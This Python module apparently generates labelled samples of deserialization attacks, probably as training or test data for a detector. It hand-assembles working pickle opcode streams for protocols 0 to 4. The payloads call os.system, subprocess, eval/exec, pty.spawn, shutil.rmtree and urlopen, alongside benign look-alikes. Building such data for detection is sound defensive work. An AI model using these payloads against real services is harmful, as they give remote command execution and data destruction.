"""Python pickles (protocols 0 to 4, pickletools), PyYAML tags, jsonpickle and eval of builtins."""

import struct

from . import grammar, java, lexicon, places

CALLABLES = (("posix", "system"), ("os", "system"), ("nt", "system"), ("os", "popen"), ("subprocess", "Popen"), ("subprocess", "check_output"), ("subprocess", "getoutput"), ("subprocess", "call"), ("builtins", "eval"), ("builtins", "exec"), ("__builtin__", "eval"), ("__builtin__", "exec"), ("commands", "getoutput"), ("builtins", "getattr"),
             ("pty", "spawn"), ("runpy", "_run_code"), ("webbrowser", "open"), ("importlib", "import_module"), ("builtins", "__import__"), ("shutil", "rmtree"), ("socket", "create_connection"), ("timeit", "timeit"), ("platform", "popen"), ("urllib.request", "urlopen"), ("code", "interact"), ("types", "CodeType"))


def argument(rng, module, name):
    common = grammar.load("common")
    if name in ("eval", "exec", "_run_code", "timeit"):
        return f"__import__('os').system('{common.expand('unixcmd0', rng)}')"
    if name in ("urlopen", "open"):
        return f"http://{lexicon.hostport(rng)}/{lexicon.word(rng)}"
    return common.expand("unixcmd", rng)


def stream(rng, protocol):
    """The opcodes of a call: GLOBAL or STACK_GLOBAL, its argument, TUPLE1, REDUCE, STOP."""
    module, name = rng.choice(CALLABLES)
    text = argument(rng, module, name)
    if protocol == 0:
        memo = rng.random() < 0.6
        p = (lambda n: f"p{n}\n") if memo else (lambda n: "")
        literal = repr(text)
        draw = rng.random()
        if draw < 0.5:
            return f"c{module}\n{name}\n{p(0)}({rng.choice(('S', 'V'))}{literal if draw < 0.4 else text}\n{p(1)}t{p(2)}R{p(3)}.".encode("utf-8", "replace")
        if draw < 0.8:
            return f"(S{literal}\ni{module}\n{name}\n{p(0)}.".encode("utf-8", "replace")
        return f"(c{module}\n{name}\nS{literal}\no.".encode("utf-8", "replace")
    raw = text.encode("utf-8", "replace")
    if protocol < 4:
        return bytes([0x80, protocol]) + f"c{module}\n{name}\n".encode() + b"q\x00X" + struct.pack("<I", len(raw)) + raw + b"q\x01\x85q\x02Rq\x03."
    short = lambda b: b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b
    body = short(module.encode()) + b"\x94" + short(name.encode()) + b"\x94\x93\x94" + short(raw) + b"\x94\x85\x94R\x94."
    return bytes([0x80, protocol]) + b"\x95" + struct.pack("<Q", len(body)) + body


def plain(rng):
    """A pickle's look-alike that holds no call: other bytes."""
    return java.blob(rng)


def value(attack, rng):
    if not attack:
        draw = rng.random()
        return java.jwt(rng) if draw < 0.12 else java.written(java.blob(rng), rng) if draw < 0.35 else grammar.load("python").expand("twin", rng)
    if rng.random() < 0.45:
        protocol = rng.choice((0, 0, 0, 1, 2, 3, 4, 4))
        raw = stream(rng, protocol)
        if protocol == 0 and rng.random() < 0.6:
            return raw.decode()
        return java.written(raw, rng)
    return grammar.load("python").expand("attack", rng)


def put(attack, carrier, rng):
    if rng.random() > 0.08 or places.has_body(carrier):
        return ""
    raw = stream(rng, rng.randint(0, 4)) if attack else plain(rng)
    places.give(carrier, rng.choice(("application/octet-stream", "application/x-pickle" if attack else "application/octet-stream", "application/python-pickle" if attack else "image/png")), raw, rng)
    return "raw"
